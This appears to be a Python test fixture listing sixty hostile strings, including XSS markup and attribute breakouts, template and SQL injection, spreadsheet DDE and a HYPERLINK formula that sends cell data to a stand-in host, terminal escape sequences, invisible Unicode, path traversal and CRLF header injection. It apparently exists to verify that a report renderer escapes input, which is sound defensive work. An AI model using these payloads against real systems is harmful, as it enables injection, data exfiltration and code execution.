"""Sixty texts that want to be something else than text: markup, commands, paths, formulas.

Each is a fragment, written into all the places that a report has for words, and into what stands
around a report: the name of its file, its labels, a question, a name, a reason. `pwned` is what a
fragment makes run where a page takes it for markup.
"""

from __future__ import annotations

from typing import NamedTuple


class Hostile(NamedTuple):
    """A text by what takes it for something else, and how it is written."""

    kind: str
    text: str


HOSTILE = tuple(
    Hostile(kind, text)
    for kind, texts in {
        "markup": (
            "<script>pwned()</script>",
            "<img src=x onerror=pwned()>",
            "<svg/onload=pwned()>",
            "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
            "<details open ontoggle=pwned()>",
            "<meta http-equiv=refresh content='0;url=//pwned.example/'>",
            "<base href=//pwned.example/>",
            "<form action=//pwned.example/><button>造林</button></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
            "<p pwned=1 id=main class=hit tabindex=1 autofocus onfocus=pwned()>",
        ),
        "breakout": (
            "\" autofocus onfocus=pwned() x=\"",
            "' onmouseover='pwned()' x='",
            "`onmouseover=pwned()`",
            "</textarea><script>pwned()</script>",
            "</title><script>pwned()</script>",
            "--><script>pwned()</script><!--",
            "]]><script>pwned()</script>",
            "\"><svg><script>pwned()</script>",
        ),
        "island": (
            "</script><script>pwned()</script>",
            "<!--<script>",
            "\\u003c/script\\u003e\\u003cscript>pwned()",
            "\"};pwned();//",
        ),
        "template": (
            "{{1234*4321}}",
            "{% for x in config %}{{x}}{% endfor %}",
            "${1234*4321}",
            "#{1234*4321}<%= 1234*4321 %>",
            "%(region)s%s%n{0.__class__}{region}",
            "<b hx-get=/logout hx-trigger=load hx-on::load=pwned()>",
            "{a|造林}{b|<img src=x onerror=pwned()>}{c}",
        ),
        "database": (
            "'; DROP TABLE reports; --",
            "\" OR \"\"=\"",
            "1) UNION SELECT password FROM users --",
        ),
        "formula": (
            "=HYPERLINK(\"http://pwned.example/?\"&A1,\"造林\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "-2+3+cmd|' /C calc'!A0",
            "＝1+1",
        ),
        "terminal": (
            "\x1b[2J\x1b[1;31m造林\x1b[0m",
            "\x1b]0;pwned\x07",
            "\x1b]8;;http://pwned.example/\x1b\\造林\x1b]8;;\x1b\\",
            "\x1b]52;c;cHduZWQ=\x07",
            "\x9b31m\x9d0;pwned\x9c",
            "造林\r\x08\x08伪造\x7f\x0b\x0c",
        ),
        "unseen": (
            "\u202e林造\u202d",
            "\u2066\u2067造林",
            "造\u200b\u00ad\u2060林\ufeff",
            "\U000e0070\U000e0077\U000e006e造林\u206a",
            "造\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308林",
            "p\u0430wned造\u6797",
        ),
        "path": (
            "../../../../etc/pwned",
            "..\\..\\pwned",
            "CON",
            "a\x00.exe",
            "-rf",
            "包.zip!/内.txt",
            "名" * 76,
            "一\n二",
        ),
        "protocol": (
            "造林\r\nSet-Cookie: pwned=1",
            "javascript:pwned()//",
        ),
    }.items()
    for text in texts
)  # fmt: skip
assert len(HOSTILE) == 60
# What 1234*4321 comes to where somebody computes it.
COMPUTED = "5332114"
